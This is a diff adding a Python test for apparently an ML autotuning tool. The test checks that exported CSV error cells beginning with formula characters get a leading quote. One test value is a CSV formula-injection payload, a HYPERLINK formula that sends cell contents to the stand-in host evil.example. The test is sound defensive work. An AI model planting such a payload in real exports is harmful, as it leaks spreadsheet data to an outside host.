@@ -863,3 +863,26 @@ def test_a_replay_table_writes_integer_knobs_as_integers(tmp_path):
     text = export.table_frame(repo, repo.get_study("ex"), {}).to_csv(index=False)
     column = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["recompute_num_layers"].tolist()
     assert column == ["", str(FULL["recompute_num_layers"])], column  # the empty cell stays empty, the 2 is "2"
+
+
+def test_a_replay_tables_error_cells_are_never_a_spreadsheet_formula(tmp_path):
+    """An adversarial pass: a launcher's error `=HYPERLINK(...)` went into the exported CSV as it was, a formula
+    for whoever opens the table in a spreadsheet. A cell starting like one gets a leading quote."""
+    import io
+
+    import pandas as pd
+
+    from autotune.storage.models import StudyRow
+
+    repo, study, _ = _study_with_trial(tmp_path, {"ep": 16, "dist_opt": True})
+    with repo.session() as s:
+        s.get(StudyRow, study.id).budget = 5
+    for number, message in ((1, '=HYPERLINK("http://evil.example/?"&A1,"click")'), (2, "@SUM(A1)"),
+                            (3, "-2+3"), (4, "NCCL error: -5")):
+        layout = LayoutConfig.from_mapping({**FULL, "mbs": (1, 2, 4, 8)[number - 1]})
+        trial = repo.claim_dispatch(study.id, layout.to_dict(), layout.key(), number, "c", 5)
+        repo.finish_trial(study.id, trial.number, "failed", message=message)
+    text = export.table_frame(repo, repo.get_study("ex"), {}).to_csv(index=False)
+    errors = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["error"].tolist()
+    assert errors[1:] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(A1)", "'-2+3",
+                          "NCCL error: -5"], errors
